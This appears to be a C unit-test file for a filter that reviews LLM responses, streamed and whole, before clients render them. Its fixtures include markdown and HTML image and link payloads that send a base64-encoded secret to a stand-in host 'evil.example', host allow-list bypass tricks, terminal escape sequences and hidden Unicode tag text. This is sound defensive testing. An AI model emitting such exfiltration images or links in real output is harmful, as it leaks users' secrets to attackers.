@@ -1,0 +1,218 @@
+/* What acts on a reader is taken out of texts that clients show, without a word of policy; policy may say
+ * otherwise by kind, and may list hosts. However an answer is cut, the client joins the same. */
+#include "review_help.h"
+#include "review_streams.h"
+
+#define DATA "VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz" /* The password of the boss */
+#define EVIL "https://evil.example/"
+#define IMAGE "![x](" EVIL "p.png?q=" DATA ")"
+#define LINK "[x](" EVIL "?q=" DATA ")"
+#define ESC "\\u001b[2J" /* as JSON has it */
+#define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"
+
+/* What policy says. */
+typedef enum policy {
+    NOTHING = 0,
+    WITHHOLDS,
+    PASSES,
+    MASKS_LINKS,
+    LISTS_HOSTS,
+    WITHHOLDS_CATEGORY,
+    N_POLICIES
+} policy;
+
+static const sp_bytes hosts[] = {{(const uint8_t *)"img.example.org", 15},
+                                 {(const uint8_t *)"*.cdn.example", 13}};
+
+static sp_review_options options_with(const fixture *f, sp_dialect_id dialect, bool is_stream, policy what)
+{
+    sp_review_options options = options_of(f, dialect, is_stream);
+    sp_kind_actions *kinds = &options.kinds;
+    options.withhold = SP_CAT_BIT(SP_CAT_CREDENTIALS);
+    if (what == WITHHOLDS) sp_bits256_add(&kinds->withheld, SP_KIND_OUTWARD_IMAGE);
+    if (what == PASSES) sp_bits256_add(&kinds->passed, SP_KIND_OUTWARD_IMAGE);
+    if (what == MASKS_LINKS) sp_bits256_add(&kinds->masked, SP_KIND_OUTWARD_LINK);
+    if (what == LISTS_HOSTS) kinds->hosts = hosts, kinds->n_hosts = 2;
+    if (what == WITHHOLDS_CATEGORY) options.withhold |= SP_CAT_BIT(SP_CAT_OUTWARD);
+    return options;
+}
+
+typedef struct row {
+    const char *name;
+    policy policy;
+    const char *text; /* as it stands in JSON */
+    const char *got;  /* as the client joins it */
+    uint32_t n_masked, n_findings;
+    sp_status verdict;
+} row;
+
+static const row rows[] = {
+    {"an image", NOTHING, "so " IMAGE " it is", "so ![x]([masked: outward-image]) it is", 1, 1, SP_OK},
+    {"a definition", NOTHING, "![x][a]\\n\\n[a]: " EVIL "?q=" DATA "\\n",
+     "![x][a]\n\n[a]: [masked: outward-image]\n", 1, 1, SP_OK},
+    {"an image of HTML", NOTHING, "<img src='" EVIL "?q=" DATA "'> so",
+     "<img src='[masked: outward-image]'> so", 1, 1, SP_OK},
+    {"an image at the end", NOTHING, "<img src=" EVIL "?q=" DATA, "<img src=[masked: outward-image]", 1, 1,
+     SP_OK},
+    {"a link is recorded", NOTHING, "so " LINK " it is", "so " LINK " it is", 0, 1, SP_OK},
+    {"an image that carries nothing", NOTHING, "![x](https://evil.example/logo.png)",
+     "![x](https://evil.example/logo.png)", 0, 0, SP_OK},
+    {"a terminal's sequence", NOTHING, "so " ESC "it is", "so [masked: terminal-escape]it is", 1, 1, SP_OK},
+    {"what says how to write one", NOTHING, "print('\\\\u001b[2J')", "print('\\u001b[2J')", 0, 0, SP_OK},
+    {"hidden text", NOTHING, "so " TAGS "it is", "so [masked: hidden-text]it is", 1, 1, SP_OK},
+    {"a family of emoji", NOTHING, "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 ok",
+     "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 ok", 0, 0, SP_OK},
+    {"an image that cuts", WITHHOLDS, "so " IMAGE " it is", "so ![x](", 0, 1, SP_ELEAK},
+    {"an image that passes", PASSES, "so " IMAGE " it is", "so " IMAGE " it is", 0, 1, SP_OK},
+    {"a link that is masked", MASKS_LINKS, "so " LINK " it is", "so [x]([masked: outward-link]) it is", 1, 1,
+     SP_OK},
+    {"a link that cuts by its category", WITHHOLDS_CATEGORY, "so " LINK " it is", "so [x](", 0, 1, SP_ELEAK},
+    {"a host of the list", LISTS_HOSTS, "![x](https://IMG.example.org:443/?q=" DATA ")",
+     "![x](https://IMG.example.org:443/?q=" DATA ")", 0, 0, SP_OK},
+    {"a host below a name of the list", LISTS_HOSTS, "![x](//a.b.cdn.example/" DATA ")",
+     "![x](//a.b.cdn.example/" DATA ")", 0, 0, SP_OK},
+    {"the name itself", LISTS_HOSTS, "![x](https://cdn.example/" DATA ")", "![x]([masked: outward-image])", 1,
+     1, SP_OK},
+    {"a host that only ends like one", LISTS_HOSTS, "![x](https://ximg.example.org/" DATA ")",
+     "![x]([masked: outward-image])", 1, 1, SP_OK},
+    {"a host of the list as a user", LISTS_HOSTS, "![x](https://img.example.org@evil.example/" DATA ")",
+     "![x]([masked: outward-image])", 1, 2, SP_OK},
+    {"a host of the list before a backslash", LISTS_HOSTS,
+     "![x](https://evil.example\\\\.img.example.org/" DATA ")", "![x]([masked: outward-image])", 1, 1, SP_OK},
+};
+
+static void check(const row *r, play *p, const char *got, const char *cuts)
+{
+    sp_review_summary s;
+    sp_review_summarise(p->review, &s);
+    if (p->verdict != r->verdict || strcmp(got, r->got) != 0 || s.n_masked != r->n_masked ||
+        s.n_findings != r->n_findings)
+        fail_msg("%s, cut at %s: verdict %d, %u masked, %zu found: \"%s\"", r->name, cuts, p->verdict,
+                 s.n_masked, s.n_findings, got);
+    assert_true(p->is_end);
+}
+
+/* The text in events of `step` characters of JSON; an escape stays whole. */
+static void append_events(sp_buf *out, const char *text, size_t step, sp_dialect_id dialect)
+{
+    static const char *const front[] = {
+        [SP_DIALECT_OPENAI] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"",
+        [SP_DIALECT_ANTHROPIC] = "event: content_block_delta\ndata: {\"type\":\"content_block_delta\","
+                                 "\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\""};
+    static const char *const back[] = {
+        [SP_DIALECT_OPENAI] = "\"}}]}\n\n", [SP_DIALECT_ANTHROPIC] = "\"}}\n\n"};
+    const size_t n = strlen(text);
+    for (size_t at = 0; at < n;) {
+        size_t end = at;
+        while (end < n && (end - at < step || ((uint8_t)text[end] & 0xc0) == 0x80))
+            end += text[end] != '\\' ? 1 : text[end + 1] == 'u' ? 6 : 2;
+        sp_buf_append_str(out, front[dialect]);
+        sp_buf_append(out, (sp_bytes){(const uint8_t *)text + at, end - at});
+        sp_buf_append_str(out, back[dialect]);
+        at = end;
+    }
+}
+
+static void stream_in(const fixture *f, const row *r, size_t step, sp_dialect_id dialect)
+{
+    const bool is_openai = dialect == SP_DIALECT_OPENAI;
+    const sp_review_options options = options_with(f, dialect, true, r->policy);
+    char cuts[16];
+    texts got;
+    play p;
+    play_begin(&p, &options);
+    sp_buf stream = SP_BUF_IN(&p.arena.mem);
+    sp_buf_append_str(&stream, is_openai ? ROLE(0) : MESSAGE_START TEXT_START(0));
+    append_events(&stream, r->text, step, dialect);
+    sp_buf_append_str(&stream, is_openai ? FINISH(0, "stop") DONE
+                                         : BLOCK_STOP(0) MESSAGE_DELTA("end_turn") MESSAGE_STOP);
+    for (size_t at = 0; at < stream.n; at += 37)
+        play_feed(&p, f, sp_bytes_sub(sp_buf_bytes(&stream), at, at + 37 < stream.n ? at + 37 : stream.n),
+                  at + 37 >= stream.n);
+    texts_read(&got, sp_buf_bytes(&p.client), &p.arena.mem);
+    snprintf(cuts, sizeof cuts, "%zu", step);
+    check(r, &p, texts_get(&got, is_openai ? "0.content" : "0.text"), cuts);
+    play_end(&p);
+}
+
+static void streams_say_the_same_however_they_are_cut(void **state)
+{
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+        for (size_t step = 1; step < 24; step++) {
+            stream_in(*state, &rows[i], step, SP_DIALECT_OPENAI);
+            stream_in(*state, &rows[i], step, SP_DIALECT_ANTHROPIC);
+        }
+    }
+}
+
+static void whole(const fixture *f, const row *r, sp_dialect_id dialect)
+{
+    const bool is_openai = dialect == SP_DIALECT_OPENAI;
+    const sp_review_options options = options_with(f, dialect, false, r->policy);
+    sp_json json;
+    play p;
+    play_begin(&p, &options);
+    sp_buf body = SP_BUF_IN(&p.arena.mem), got = SP_BUF_IN(&p.arena.mem);
+    sp_buf_append_str(&body, is_openai ? "{\"choices\":[{\"message\":{\"content\":\""
+                                       : "{\"content\":[{\"type\":\"text\",\"text\":\"");
+    sp_buf_append_str(&body, r->text);
+    sp_buf_append_str(&body, is_openai ? "\"}}]}" : "\"}]}");
+    play_feed(&p, f, sp_buf_bytes(&body), true);
+    row expected = *r;
+    if (p.verdict == SP_OK) {
+        assert_int_equal(sp_json_parse(&json, sp_buf_bytes(&p.client), &p.arena.mem, NULL), SP_OK);
+        sp_each it = sp_each_of(sp_json_find(json.root, sp_bytes_of(is_openai ? "choices" : "content")));
+        assert_true(sp_each_step(&it));
+        sp_buf_append(&got,
+                      sp_json_bytes(is_openai ? sp_json_find2(it.value, SP_LIT("message"), SP_LIT("content"))
+                                              : sp_json_find(it.value, SP_LIT("text"))));
+    } else {
+        expected.got = ""; /* of a whole answer nothing leaves */
+    }
+    sp_buf_append_byte(&got, '\0');
+    check(&expected, &p, (const char *)got.p, "no place");
+    play_end(&p);
+}
+
+static void whole_answers_say_the_same(void **state)
+{
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+        whole(*state, &rows[i], SP_DIALECT_OPENAI);
+        whole(*state, &rows[i], SP_DIALECT_ANTHROPIC);
+    }
+}
+
+/* What a program is made of stays, and is told: arguments of a call, whole and in a stream. */
+static void arguments_are_recorded_as_they_are(void **state)
+{
+    static const char stream[] =
+        ROLE(0) CALL_BEGIN(0, 0, "c", "write") CALL_MORE(0, 0, "{\\\"text\\\":\\\"![x](https://evil.exa")
+            CALL_MORE(0, 0, "mple/?q=" DATA ")\\\"}") FINISH(0, "tool_calls") DONE;
+    static const char answer[] =
+        "{\"choices\":[{\"message\":{\"tool_calls\":[{\"id\":\"c\",\"function\":{"
+        "\"name\":\"write\",\"arguments\":\"{\\\"text\\\":\\\"" IMAGE "\\\"}\"}}]}}]}";
+    const fixture *f = *state;
+    for (unsigned is_stream = 0; is_stream < 2; is_stream++) {
+        const sp_review_options options = options_with(f, SP_DIALECT_OPENAI, is_stream, NOTHING);
+        sp_review_summary s;
+        play p;
+        play_whole(&p, f, &options, is_stream ? stream : answer);
+        sp_review_summarise(p.review, &s);
+        assert_int_equal(p.verdict, SP_OK);
+        assert_true(has_bytes(sp_buf_bytes(&p.client), "q=" DATA));
+        assert_int_equal(s.n_masked, 0);
+        assert_int_equal(s.n_findings, 1);
+        assert_int_equal(s.findings[0].finding.kind, SP_KIND_OUTWARD_IMAGE);
+        play_end(&p);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(streams_say_the_same_however_they_are_cut),
+        cmocka_unit_test(whole_answers_say_the_same),
+        cmocka_unit_test(arguments_are_recorded_as_they_are),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
